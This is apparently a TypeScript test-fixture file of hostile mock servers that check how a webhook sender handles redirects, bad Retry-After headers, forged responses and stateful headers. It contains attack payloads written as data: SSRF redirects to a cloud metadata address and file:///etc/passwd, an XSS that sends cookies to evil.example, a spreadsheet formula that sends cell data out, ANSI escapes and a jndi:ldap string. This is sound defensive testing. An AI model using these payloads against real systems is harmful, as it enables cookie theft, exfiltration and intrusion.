import { at, type Exhibit, opened } from '../exhibit.ts';
import { answering, http, ok, openHost } from '../host.ts';

const status = (
  kind: number,
  name: string,
  line: string,
  does: string,
  expect: string,
  headers = '',
): Exhibit => ({
  kind,
  name,
  does,
  expect,
  open: at(answering(http(line, `${headers}content-length: 0`))),
});

const NOT_FOLLOWED = 'a failed attempt; not followed, no other connection';

/** Redirects to a trap, which counts who falls for it. */
const redirect = (code: number, location: (trap: string, own: string) => string): Exhibit['open'] => {
  return async () => {
    const trap = await openHost(answering(ok));
    const host = await openHost({
      onRequest: (socket) => {
        const to = location(`127.0.0.1:${trap.port}`, `127.0.0.1:${host.port}`);
        socket.write(http(`${code} Elsewhere`, `location: ${to}\r\ncontent-length: 0`));
      },
    });
    return opened(host, `http://${host.address}:${host.port}/webhooks`, {
      trapped: trap.connections,
      close: async () => {
        await Promise.all([host.close(), trap.close()]);
      },
    });
  };
};

const FAR = 'Wed, 21 Oct 2099 07:28:00 GMT';
const PAST = 'Wed, 21 Oct 2015 07:28:00 GMT';

const GARBAGE: readonly (readonly [name: string, header: string, does: string])[] = [
  ['negative', '-1', 'a negative number'],
  ['huge', '1e300', '1e300'],
  ['infinite', 'inf', 'inf'],
  ['words', 'soon', 'words'],
  ['long', '9'.repeat(10_000), 'ten thousand digits'],
  ['twice', '1\r\nretry-after: 2', 'two headers of it'],
  ['iso', '2099-01-01T00:00:00Z', 'a date in another form than HTTP’s'],
];

const POISON: readonly (readonly [name: string, body: string, does: string])[] = [
  ['xss', '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">', 'script'],
  ['ansi', '\x1b]0;owned\x07\x1b[2J\x1b[31mred', 'escape sequences of terminals'],
  ['csv', '=HYPERLINK("https://evil.example/?"&A1,"click")', 'a formula'],
  ['bytes', '\x00\xff\xfe\xed\xa0\x80', 'NUL and bytes that are no UTF-8'],
  ['log', `x\n{"level":"fatal","msg":"forged"}\n$${'{'}jndi:ldap://evil.example/a}`, 'a forged log line'],
];

export const habits: readonly Exhibit[] = [
  ...['300 Multiple Choices', '302 Found', '304 Not Modified'].map((line) =>
    status(
      29,
      `${line.slice(0, 3)}-without-a-location`,
      line,
      `answers ${line.slice(0, 3)} and no Location`,
      'a failed attempt: only 2xx is a success',
    ),
  ),
  ...[301, 302, 303, 307, 308].map((code): Exhibit => ({
    kind: 30,
    name: `redirect-${code}`,
    does: `answers ${code} to another server`,
    expect: NOT_FOLLOWED,
    open: redirect(code, (trap) => `http://${trap}/`),
  })),
  {
    kind: 31,
    name: 'redirect-inside',
    does: 'redirects to an address of the sender’s own network',
    expect: NOT_FOLLOWED,
    open: redirect(302, () => 'http://169.254.169.254/latest/meta-data/'),
  },
  {
    kind: 31,
    name: 'redirect-loop',
    does: 'redirects to itself',
    expect: NOT_FOLLOWED,
    open: redirect(307, (_trap, own) => `http://${own}/webhooks`),
  },
  {
    kind: 31,
    name: 'redirect-scheme',
    does: 'redirects to file:///etc/passwd',
    expect: NOT_FOLLOWED,
    open: redirect(302, () => 'file:///etc/passwd'),
  },
  {
    kind: 32,
    name: 'captive-portal',
    does: 'answers 200 with a page to log in to',
    expect: 'delivered: 2xx is what was agreed on',
    open: at(answering(http('200 OK', 'content-type: text/html\r\ncontent-length: 6', '<html>'))),
  },
  {
    kind: 36,
    name: 'keep-alive-race',
    does: 'keeps connections alive and closes each as the next request is on its way',
    expect: 'told apart from a real failure, tried again soon, never sent twice in one attempt',
    send: { times: 50 },
    open: at({
      onRequest: (socket, _request, index) =>
        socket.write(ok, () => setTimeout(() => socket.end(), index % 3)),
    }),
  },
  {
    kind: 37,
    name: 'connection-close',
    does: 'says Connection: close and leaves it open',
    expect: 'delivered; the connection is not used again',
    send: { times: 3 },
    open: at(answering(http('200 OK', 'connection: close\r\ncontent-length: 2', 'ok'))),
  },
  {
    kind: 37,
    name: 'keep-alive-600',
    does: 'promises to keep connections for ten minutes',
    expect: 'delivered; the sender’s own, shorter limit holds',
    send: { times: 3 },
    open: at(answering(http('200 OK', 'keep-alive: timeout=600\r\ncontent-length: 2', 'ok'))),
  },
  {
    kind: 38,
    name: 'two-answers',
    does: 'sends a second answer that nobody asked for, for the next request to find',
    expect: 'the first counts, the connection is given up',
    send: { times: 3 },
    open: at(answering(ok + http('500 Forged'))),
  },
  ...[429, 503].map((code) =>
    status(
      39,
      `retry-after-${code}`,
      `${code} Wait`,
      `answers ${code} with Retry-After: 120`,
      'no earlier than the schedule says, and no earlier than in 120 s',
      'retry-after: 120\r\n',
    ),
  ),
  status(
    40,
    'retry-after-date',
    '503 Wait',
    'answers 503 with a Retry-After of the year 2099',
    'capped',
    `retry-after: ${FAR}\r\n`,
  ),
  status(
    40,
    'retry-after-past',
    '503 Wait',
    'answers 503 with a Retry-After of 2015',
    'as if it were not there',
    `retry-after: ${PAST}\r\n`,
  ),
  ...GARBAGE.map(([name, value, does]) =>
    status(
      41,
      `retry-after-${name}`,
      '503 Wait',
      `answers 503 with ${does} as Retry-After`,
      'as if it were not there; nothing overflows',
      `retry-after: ${value}\r\n`,
    ),
  ),
  status(42, 'gone', '410 Gone', 'answers 410', 'the endpoint is stopped; when it says so again, disabled'),
  ...[401, 403, 404].map((code) =>
    status(
      43,
      `status-${code}`,
      `${code} No`,
      `answers ${code}`,
      'tried again by the schedule: it is mended more often than meant',
    ),
  ),
  ...[408, 421, 425, 500, 502, 503, 504].map((code) =>
    status(44, `status-${code}`, `${code} No`, `answers ${code}`, 'tried again by the schedule'),
  ),
  {
    kind: 48,
    name: 'stateful-headers',
    does: 'sets cookies, HSTS, Alt-Svc and Clear-Site-Data, and answers 400 to whoever comes back with a cookie',
    expect: 'delivered each time: no state between attempts',
    send: { times: 3 },
    open: at({
      onRequest: (socket, { head }) =>
        socket.write(
          /^cookie:/im.test(head)
            ? http('400 Cookie')
            : http(
                '200 OK',
                [
                  'set-cookie: session=stolen; path=/',
                  'alt-svc: h3=":443"; ma=86400, h2="evil.example:443"',
                  'strict-transport-security: max-age=31536000',
                  'clear-site-data: "*"',
                  'content-length: 0',
                ].join('\r\n'),
              ),
        ),
    }),
  },
  ...POISON.map(([name, body, does]): Exhibit => ({
    kind: 49,
    name: `poison-${name}`,
    does: `answers 500 with ${does} in body and header`,
    expect: 'kept as bytes; shown as text',
    open: at(
      answering(
        http(
          '500 No',
          `x-poison: ${body.replaceAll(/[\x00-\x1f]/g, '')}\r\ncontent-length: ${body.length}`,
          body,
        ),
      ),
    ),
  })),
  {
    kind: 49,
    name: 'echo',
    does: 'answers 401 with the whole request, secrets of its headers included',
    expect: 'the secrets are not kept with the answer',
    open: at({
      onRequest: (socket, { head }) => {
        const body = `You sent:\n${head}`;
        const authorization = /^authorization: (.*)$/im.exec(head)?.[1]?.trim() ?? 'none';
        socket.write(
          Buffer.from(
            http('401 No', `x-seen: ${authorization}\r\ncontent-length: ${body.length}`, body),
            'latin1',
          ),
        );
      },
    }),
  },
];
